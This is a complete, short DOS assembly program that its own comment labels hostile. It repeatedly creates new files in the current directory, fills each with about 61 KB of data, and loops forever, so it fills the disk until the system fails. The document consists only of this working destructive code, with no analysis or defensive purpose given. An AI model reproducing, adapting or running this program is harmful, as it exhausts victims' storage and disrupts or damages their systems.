; Hostile: makes files without an end.
        .386
code    segment use16 'code'
        assume cs:code, ds:code
        org 100h
start:  mov byte ptr folder, 'A'
        mov dx, offset folder
        mov ah, 5Ah
        mov byte ptr folder, 0
        xor cx, cx
        int 21h
        jc start
        mov bx, ax
        mov cx, 0F000h
        mov ah, 40h
        int 21h
        mov ah, 3Eh
        int 21h
        jmp start
folder  db 16 dup (0)
code    ends
        end start
